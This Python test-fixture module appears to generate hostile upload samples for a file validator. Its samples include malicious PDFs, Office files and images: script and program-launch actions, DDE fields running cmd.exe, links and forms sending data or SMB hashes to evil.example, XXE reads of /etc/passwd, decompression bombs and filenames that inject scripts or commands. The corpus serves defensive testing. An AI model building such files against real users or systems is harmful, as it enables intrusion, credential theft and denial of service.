"""More of what somebody who means harm sends: each entry another trick, made by code."""

import gzip
import io
import struct
import unicodedata
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.files import papers

PDF, PNG, JPEG = papers.pdf(), papers.png(), papers.jpeg()
OTHER = "http://evil.example/"


# PDF -------------------------------------------------------------------------------------------


def changed(change, pages=1) -> bytes:
    return papers.pdf(pages, change)


def annotated(**annotation):
    """A PDF whose page carries an annotation: a link, a field, a film."""

    def change(made):
        made.pages[0].Annots = Array(
            [made.make_indirect(Dictionary(Type=Name.Annot, **annotation))]
        )

    return changed(change)


def linked(**action):
    return annotated(Subtype=Name.Link, A=Dictionary(**action))


def rooted(**entries):
    def change(made):
        for key, value in entries.items():
            made.Root[f"/{key}"] = value

    return changed(change)


def attached(change_name="a.exe"):
    def change(made):
        made.attachments[change_name] = b"MZ" + bytes(100)

    return changed(change)


def field(**entries):
    form = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("so"), **entries)]))
    return rooted(AcroForm=form)


def bookmarked(made):
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made.Root.Outlines = made.make_indirect(
        Dictionary(First=made.make_indirect(Dictionary(Title=String("Mục 1"), A=script)))
    )


def packed_page(megabytes=80):
    """A page whose drawing unpacks to far more than a page holds."""

    def change(made):
        stream = pikepdf.Stream(made, zlib.compress(bytes(megabytes * 1024**2), 9))
        stream.Filter = Name.FlateDecode
        made.pages[0].Contents = made.make_indirect(stream)

    return papers.pdf(1, change, compress_streams=False)


def packed_over_and_over():
    def change(made):
        twice = zlib.compress(zlib.compress(bytes(16 * 1024**2), 9), 9)
        packed = pikepdf.Stream(made, zlib.compress(twice, 9))
        packed.Filter = Array([Name.FlateDecode] * 3)
        made.pages[0].Contents = made.make_indirect(packed)

    return papers.pdf(1, change, compress_streams=False)


def bytes_of_another_file(made):
    stream = pikepdf.Stream(made, b"")
    stream.F = String("c:/windows/system.ini")
    made.pages[0].Contents = made.make_indirect(stream)


def raw_pdf(*objects: bytes, ending=b"") -> bytes:
    """A PDF written by hand, as no program would write it."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, content in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        out.write(b"%010d 00000 n \n" % place)
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, ending))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


CATALOG, TREE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
SCRIPT = b"<</S/J#61va#53cript/JS(app.alert\\(1\\))>>"


def named_files(made):
    made.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(
            Names=Array([String("a"), Dictionary(F=String("a"), EF=Dictionary(F=String("x")))])
        )
    )


PDFS = {
    "a PDF that runs a script when it is closed": rooted(
        AA=Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    ),
    "a PDF that runs a script on a page": changed(
        lambda made: setattr(
            made.pages[0].obj, "AA", Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x")))
        )
    ),
    "a PDF with a script behind a link": linked(S=Name.JavaScript, JS=String("app.alert(1)")),
    "a PDF that starts a program by a link": linked(S=Name.Launch, F=String("cmd.exe")),
    "a PDF with a script behind another action": linked(
        S=Name.GoTo, Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    ),
    "a PDF with a script behind a bookmark": changed(bookmarked),
    "a PDF whose script is spelt in figures": raw_pdf(
        CATALOG.replace(b">>", b"/OpenAction 4 0 R>>"), TREE, PAGE, SCRIPT
    ),
    "a PDF whose script lies in packed objects": papers.pdf(
        1,
        papers.runs_when_opened("/JavaScript"),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    ),
    "a PDF that opens an address by itself": rooted(
        OpenAction=Dictionary(S=Name.URI, URI=String(OTHER))
    ),
    "a PDF with a script for an address": linked(S=Name.URI, URI=String("javascript:alert(1)")),
    "a PDF with a script for an address, spaced out": linked(
        S=Name.URI, URI=String(" java\nscript:alert(1)")
    ),
    "a PDF with a whole page for an address": linked(
        S=Name.URI, URI=String("data:text/html,<script>alert(1)</script>")
    ),
    "a PDF that asks a foreign server for a file": linked(
        S=Name.URI, URI=String("file://evil.example/share")
    ),
    "a PDF that gives the password's hash to a share": linked(
        S=Name.URI, URI=String("\\\\evil.example\\share")
    ),
    "a PDF that goes to another file": linked(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf")),
    "a PDF that goes to a file inside": linked(S=Name.GoToE, T=Dictionary(R=Name.C)),
    "a PDF that sends what is typed": linked(S=Name.SubmitForm, F=String(OTHER)),
    "a PDF that takes in values from elsewhere": linked(S=Name.ImportData, F=String("a.fdf")),
    "a PDF that plays a film": annotated(Subtype=Name.Movie),
    "a PDF that plays a sound": annotated(Subtype=Name.Sound),
    "a PDF with Flash": annotated(Subtype=Name.RichMedia),
    "a PDF with a body in space": annotated(Subtype=Name("/3D")),
    "a PDF with a player": annotated(Subtype=Name.Screen),
    "a PDF with a rendition": linked(S=Name.Rendition, OP=0),
    "a PDF with a form of its own program": rooted(
        AcroForm=Dictionary(XFA=Array([String("template"), String("<template/>")]))
    ),
    "a PDF with a script in a field": field(
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("x")))
    ),
    "a PDF with a program packed inside": attached(),
    "a PDF with a zip packed inside": attached("b.zip"),
    "a PDF with a file pinned to a page": annotated(Subtype=Name.FileAttachment),
    "a PDF with files inside and no list of them": changed(named_files),
    "a PDF that is an archive too": PDF + papers.archive([("a.exe", b"MZ")]),
    "a PDF behind a page": b"<html><script>alert(1)</script></html>\n" + PDF,
    "a PDF behind a program": b"MZ" + bytes(62) + PDF,
    "a PDF whose pages are their own parents": raw_pdf(
        CATALOG, b"<</Type/Pages/Count 1/Kids[2 0 R]>>"
    ),
    "a PDF without a list of pages": raw_pdf(b"<</Type/Catalog>>"),
    "a PDF whose pages are a number": raw_pdf(b"<</Type/Catalog/Pages 7>>"),
    "a PDF of brackets": raw_pdf(
        CATALOG, TREE, PAGE.replace(b">>", b"/X " + b"[" * 60_000 + b"]" * 60_000 + b">>")
    ),
    "a PDF of dictionaries in dictionaries": raw_pdf(
        CATALOG, TREE, PAGE.replace(b">>", b"/X " + b"<</X " * 60 + b"1" + b">>" * 61)
    ),
    "a PDF under a key of another kind": raw_pdf(
        CATALOG, TREE, PAGE, ending=b"/ID[<00><00>]/Encrypt<</Filter/Adobe.PubSec/V 4>>"
    ),
    "a PDF under a modern password": papers.pdf(
        encryption=pikepdf.Encryption(owner="o", user="u", R=6)
    ),
    "a PDF under an old password": papers.pdf(
        encryption=pikepdf.Encryption(owner="o", user="u", R=3, aes=False, metadata=False)
    ),
    "a PDF whose page unpacks without end": packed_page(),
    "a PDF packed over and over": packed_over_and_over(),
    "a PDF whose bytes lie elsewhere": changed(bytes_of_another_file),
    "a PDF of too many pages": papers.pdf(3001),
    "a PDF that is only a head": b"%PDF-1.7\n%%EOF\n",
    "a PDF of nothing but zeros": b"%PDF-1.7\n" + bytes(20_000),
}


# Office ----------------------------------------------------------------------------------------


def with_part(name, content, ending="docx") -> bytes:
    return papers.office(ending, extra=[(name, content)])


def related(kind, target, *, external=True, part="word/_rels/document.xml.rels") -> bytes:
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Type="x/{kind}" Target="{target}"{mode}/>'
    return with_part(part, f"<Relationships>{one}</Relationships>".encode())


def device(kind) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/device.xml")
    entry.external_attr = (kind | 0o666) << 16
    return entry


def packed_by(method) -> bytes:
    entry = zipfile.ZipInfo("word/a.xml")
    entry.compress_type = method
    out = io.BytesIO(papers.office())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(entry, b"<a/>")
    return out.getvalue()


def patched(made: bytes, old: bytes, new: bytes) -> bytes:
    assert old in made
    return made.replace(old, new)


def wrong_checksum() -> bytes:
    made = with_part("word/a.xml", b"<a>so lieu</a>")
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        checksum = struct.pack("<L", archive.getinfo("word/a.xml").CRC)
    return patched(made, checksum, b"\0\1\2\3")


def two_names() -> bytes:
    """The directory calls an entry otherwise than the entry itself."""
    made = with_part("word/AAAA.xml", b"<a/>")
    at = made.rfind(b"word/AAAA.xml")
    return made[:at] + b"word/BBBB.xml" + made[at + 13 :]


def overlapping() -> bytes:
    """Many names in the directory for the same packed bytes."""
    made = papers.office(extra=[("word/a.xml", b"<a/>"), ("word/b.xml", b"<b/>")])
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        first, last = (archive.getinfo(f"word/{n}.xml").header_offset for n in "ab")
    at = made.rfind(b"PK\x01\x02")
    return made[: at + 42] + struct.pack("<L", first) + made[at + 46 :] if last else made


def sizes_that_lie(size) -> bytes:
    made = with_part("word/a.xml", b"<a>" + b"x" * 4321)
    return patched(made, struct.pack("<L", 4324), struct.pack("<L", size))


def entries_that_lie() -> bytes:
    made = bytearray(papers.office())
    at = made.rfind(b"PK\x05\x06")
    made[at + 10 : at + 12] = b"\xff\xff"
    return bytes(made)


def directory_that_lies() -> bytes:
    made = bytearray(papers.office())
    at = made.rfind(b"PK\x05\x06")
    made[at + 16 : at + 20] = b"\xff\xff\xff\x7f"
    return bytes(made)


def two_archives() -> bytes:
    return papers.office(extra=[("word/vbaProject.bin", b"macro")]) + papers.office()


def commented(size) -> bytes:
    out = io.BytesIO(papers.office())
    with zipfile.ZipFile(out, "a") as made:
        made.comment = b"x" * 10
    return out.getvalue() + bytes(size)


def under_a_late_doctype() -> bytes:
    """The entities stand across the border of two pieces that are read one after the other."""
    start = b"<?xml version='1.0'?><!--"
    padding = 64 * 1024 - len(start) - len(b"--><!DOC")
    return start + b"x" * padding + b"--><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x/>"


FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
ZIP_NAME = "word/media/image1.png"
OFFICES = {
    "macros by a kind of part": papers.office(
        extra=[("word/_rels/d.rels", b'<Relationship Type="x/vbaProject" Target="a.dat"/>')]
    ),
    "macros of an old Excel inside": with_part(
        "word/embeddings/oleObject1.bin", papers.OLE + "_VBA_PROJECT".encode("utf-16-le")
    ),
    "macros' own list of names": with_part("word/vbaData.xml", b"<wne:vbaSuppData/>"),
    "a sheet of old macros": papers.office("xlsx", extra=[("xl/macrosheets/sheet1.xml", b"<x/>")]),
    "a sheet of old dialogs": papers.office("xlsx", extra=[("xl/dialogsheets/s1.xml", b"<x/>")]),
    "buttons that run macros": with_part("customUI/customUI.xml", b"<customUI onLoad='Run'/>"),
    "a field that starts a program": with_part(
        "word/document.xml", FIELD.format(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"').encode()
    ),
    "a plain field that starts a program": with_part(
        "word/document.xml", b'<w:fldSimple w:instr="DDE excel a"/>'.replace(b"w:instr", b"instr")
    ),
    "a cell that starts a program": papers.office(
        "xlsx",
        extra=[("xl/externalLinks/e1.xml", b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')],
    ),
    "a slide that starts a program": papers.office(
        "pptx", extra=[("ppt/slides/slide1.xml", b'<a:hlinkClick action="ppaction://program"/>')]
    ),
    "a slide that starts a macro": papers.office(
        "pptx", extra=[("ppt/slides/slide1.xml", b'<a:x action="ppaction://macro?name=Run"/>')]
    ),
    "a field that takes in another file": with_part(
        "word/document.xml", FIELD.format('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"').encode()
    ),
    "a table that asks the internet": papers.office(
        "xlsx", extra=[("xl/connections.xml", b'<webPr url="http://evil.example/"/>')]
    ),
    "a table that asks a database": papers.office(
        "xlsx", extra=[("xl/connections.xml", b'<dbPr connection="Provider=x;Data Source=evil"/>')]
    ),
    "a template from a share": related("attachedTemplate", "\\\\evil.example\\t.dotm"),
    "an object from elsewhere": related("oleObject", "http://evil.example/a.rtf"),
    "a picture that tells who reads": related("image", "https://evil.example/pixel.png"),
    "a frame from elsewhere": related("frame", "http://evil.example/a.html"),
    "a part of the text from elsewhere": related("subDocument", "http://evil.example/a.docx"),
    "a picture from a share": related("image", "file://evil.example/share/a.png"),
    "a film from elsewhere": related("video", "//evil.example/a.mp4"),
    "a workbook on the web": related("externalLinkPath", "http://evil.example/a.xlsx"),
    "a link with a script": related("hyperlink", "javascript:alert(1)"),
    "a link into the settings of Windows": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a link into a page of help": related("hyperlink", "mk:@MSITStore:evil.chm::/a.htm"),
    "a page taken in as text": related("aFChunk", "afchunk.dat", external=False),
    "a page packed inside": with_part("word/afchunk.html", b"<script>alert(1)</script>"),
    "an e-mail page packed inside": with_part("word/afchunk.mht", b"MIME-Version: 1.0"),
    "a shortcut packed inside": with_part("word/embeddings/a.lnk", b"L\0\0\0"),
    "a script packed inside": with_part("word/embeddings/a.js", b"run()"),
    "old rich text packed inside": with_part("word/embeddings/a.rtf", b"{\\rtf1}"),
    "Flash packed inside": with_part("word/media/a.swf", b"FWS"),
    "an archive called picture": with_part(ZIP_NAME, papers.archive([("a.txt", b"x")])),
    "a program called picture": with_part(ZIP_NAME, b"MZ" + bytes(200)),
    "a Linux program called picture": with_part(ZIP_NAME, b"\x7fELF" + bytes(200)),
    "a gzip called picture": with_part(ZIP_NAME, gzip.compress(b"x")),
    "a rar called picture": with_part(ZIP_NAME, b"Rar!\x1a\x07\0"),
    "a 7z called picture": with_part(ZIP_NAME, b"7z\xbc\xaf\x27\x1c"),
    "a cabinet called picture": with_part(ZIP_NAME, b"MSCF" + bytes(60)),
    "a workbook in an unusual place": papers.office(
        extra=[("word/media/a.xlsx", papers.office("xlsx"))]
    ),
    "an entry that is a device": papers.office(extra=[(device(0o020000), b"x")]),
    "an entry that is a pipe": papers.office(extra=[(device(0o010000), b"x")]),
    "an entry packed by LZMA": packed_by(zipfile.ZIP_LZMA),
    "an entry packed by bzip2": packed_by(zipfile.ZIP_BZIP2),
    "an entry with a bell in its name": with_part("word/a\x07.xml", b"<a/>"),
    "an entry with a stream behind its name": with_part("word/a.xml:evil", b"<a/>"),
    "an entry on a share": with_part("\\\\evil.example\\a.xml", b"<a/>"),
    "an entry that climbs in the middle": with_part("word/../../a.xml", b"<a/>"),
    "the same name in two writings": papers.office(
        extra=[
            (unicodedata.normalize("NFC", "word/mục.xml"), b"<a/>"),
            (unicodedata.normalize("NFD", "word/mục.xml"), b"<b/>"),
        ]
    ),
    "an entry whose checksum is wrong": wrong_checksum(),
    "an entry under two names": two_names(),
    "entries one over the other": overlapping(),
    "an entry that says a gigabyte": sizes_that_lie(2**30),
    "an entry that says nothing": sizes_that_lie(0),
    "a directory that says 65535": entries_that_lie(),
    "a directory that is elsewhere": directory_that_lies(),
    "an archive behind an archive": two_archives(),
    "an archive with a tail": commented(500),
    "an archive with a tail too long": commented(70_000),
    "a directory that is a bomb": papers.office(
        extra=[(f"word/{'x' * 60_000}{n}.xml", b"") for n in range(20)]
    ),
    "kinds spelt in figures": papers.archive(
        [("[Content_Types].xml", papers.content_types(papers.MAIN["docx"], "macro&#69;nabled"))]
    ),
    "kinds in another writing": papers.archive(
        [
            (
                "[Content_Types].xml",
                papers.content_types(papers.MAIN["docx"]).decode().encode("utf-16"),
            )
        ]
    ),
    "entities in wide letters": with_part(
        "word/a.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM 'http://evil.example'>]><x/>".encode("utf-16")
    ),
    "entities of the relationships": with_part("word/_rels/a.rels", b"<!DOCTYPE x []><x/>"),
    "entities across two pieces": with_part("word/a.xml", under_a_late_doctype()),
    "text in letters nobody searches": with_part("word/a.xml", "<a>DDE</a>".encode("utf-32-le")),
}


# Pictures --------------------------------------------------------------------------------------

chunk = papers._chunk
HEAD = PNG[: 8 + 25]
IDAT = chunk(b"IDAT", zlib.compress(b"\0\xff\xff" * 2))
END = chunk(b"IEND", b"")


def png_header(width=2, height=2, depth=8, colour=0, packing=0, sieve=0, laced=0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, packing, sieve, laced)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + IDAT + END


def text_bomb(kind, head) -> bytes:
    packed = zlib.compress(bytes(8 * 1024**2), 9)
    return HEAD + chunk(kind, head + packed) + IDAT + END


def jpeg_frame(marker) -> bytes:
    return JPEG.replace(b"\xff\xc0", b"\xff" + bytes([marker]), 1)


PICTURES = {
    "a PNG without a picture": ("a.png", HEAD + END),
    "a PNG with two heads": ("a.png", HEAD + HEAD[8:] + IDAT + END),
    "a PNG with two pictures": ("a.png", HEAD + IDAT + chunk(b"tIME", bytes(7)) + IDAT + END),
    "a PNG without a width": ("a.png", png_header(width=0)),
    "a PNG as high as can be said": ("a.png", png_header(height=0xFFFFFFFF)),
    "a PNG of odd depth": ("a.png", png_header(depth=3)),
    "a PNG of odd colours": ("a.png", png_header(colour=7)),
    "a PNG packed oddly": ("a.png", png_header(packing=1)),
    "a PNG interlaced oddly": ("a.png", png_header(laced=9)),
    "a PNG whose checksum is wrong": ("a.png", HEAD + IDAT[:-1] + b"\0" + END),
    "a PNG with a piece without end": ("a.png", HEAD + b"\xff\xff\xff\xffIDAT" + END),
    "a PNG that starts in the middle": ("a.png", b"\x89PNG\r\n\x1a\n" + IDAT + END),
    "a PNG of empty pieces": ("a.png", HEAD + chunk(b"tEXt", b"") * 2100 + IDAT + END),
    "a PNG that moves": ("a.png", HEAD + chunk(b"acTL", struct.pack(">II", 99, 0)) + IDAT + END),
    "a PNG with a bomb of colours": ("a.png", text_bomb(b"iCCP", b"a\0\0")),
    "a PNG with a bomb of words": ("a.png", text_bomb(b"zTXt", b"Comment\0\0")),
    "a PNG with an archive behind it": ("a.png", PNG + papers.archive([("a.exe", b"MZ")])),
    "a GIF called PNG": ("a.png", b"GIF89a" + bytes(40)),
    "a drawing called PNG": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
    "a BMP called JPEG": ("a.jpg", b"BM" + bytes(60)),
    "a WebP called JPEG": ("a.jpg", b"RIFF\0\0\0\0WEBPVP8 " + bytes(20)),
    "a phone's HEIC called JPEG": ("a.jpg", b"\0\0\0\x18ftypheic" + bytes(20)),
    "a TIFF called JPEG": ("a.jpg", b"II*\0" + bytes(40)),
    "a PostScript called JPEG": ("a.jpg", b"%!PS-Adobe-3.0\n(a) run"),
    "a JPEG without a width": ("a.jpg", papers.jpeg(0, 2)),
    "a JPEG without a frame": ("a.jpg", b"\xff\xd8\xff\xe0\0\x10" + bytes(14) + b"\xff\xd9"),
    "a JPEG of segments without end": ("a.jpg", b"\xff\xd8" + b"\xff\xfe\0\x02" * 2100 + JPEG[2:]),
    "a JPEG whose segment says nothing": ("a.jpg", b"\xff\xd8\xff\xfe\0\0" + JPEG[2:]),
    "a JPEG of arithmetic": ("a.jpg", jpeg_frame(0xC9)),
    "a JPEG without loss": ("a.jpg", jpeg_frame(0xC3)),
    "a JPEG with an archive behind it": ("a.jpg", JPEG + papers.archive([("a.exe", b"MZ")])),
}

# Names that arrive as they were written, also through a request. ---------------------------------

NAMES = {
    "macros of Excel by the ending": "a.xlsm",
    "macros of PowerPoint by the ending": "a.pptm",
    "a template with macros by the ending": "a.dotm",
    "Excel in bytes by the ending": "a.xlsb",
    "a shortcut by the ending": "a.lnk",
    "a disc by the ending": "a.iso",
    "a script of Windows by the ending": "a.ps1",
    "a program of Java by the ending": "a.jar",
    "a saved page by the ending": "a.mht",
    "an address by the ending": "a.url",
    "an ending of Cyrillic letters": "a.рdf",
    "an ending of wide letters": "a.ｐｄｆ",
    "a dot that is none, before the ending": "a․exe․pdf.pdf",
    "a wide dot before the ending": "a．exe.pdf",
    "a dot behind the ending": "a.pdf.",
    "a page before the ending": "a.html.pdf",
    "an archive before the ending": "a.zip.docx",
    "a stream behind the name": "a.exe:b.pdf",
    "a script in the name": "<img src=x onerror=alert(1)>.pdf",
    "a pipe in the name": "a|calc.pdf",
    "stars in the name": "*.pdf",
    "a device of Windows": "con.pdf",
    "a printer of Windows": "LPT1.pdf",
    "a secret stamped in front": "TỐI MẬT 12-BC.pdf",
}

ENDINGS = {  # of the Office files that are not Word's
    **dict.fromkeys(
        [
            "a sheet of old macros",
            "a sheet of old dialogs",
            "a cell that starts a program",
            "a table that asks the internet",
            "a table that asks a database",
        ],
        "xlsx",
    ),
    **dict.fromkeys(["a slide that starts a program", "a slide that starts a macro"], "pptx"),
}
HOSTILE = {
    **{name: ("a.pdf", content) for name, content in PDFS.items()},
    **{name: (f"a.{ENDINGS.get(name, 'docx')}", content) for name, content in OFFICES.items()},
    **PICTURES,
    **{name: (file_name, PDF) for name, file_name in NAMES.items()},
    "a virus for tests": (
        "a.pdf",
        rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ),
    "rich text called Word": ("a.docx", b"{\\rtf1\\ansi {\\object\\objocx}}"),
    "a page called Word": ("a.docx", b"<html xmlns:o='urn:schemas-microsoft-com:office:office'>"),
    "a rar called Word": ("a.docx", b"Rar!\x1a\x07\0" + bytes(40)),
    "a 7z called Excel": ("a.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    "a gzip called PDF": ("a.pdf", gzip.compress(PDF)),
    "a PowerPoint file called Word": ("a.docx", papers.office("pptx")),
    "a Windows installer called Excel": ("a.xlsx", papers.OLE),
    "an archive without a directory": ("a.docx", b"PK\x05\x06" + bytes(18)),
}
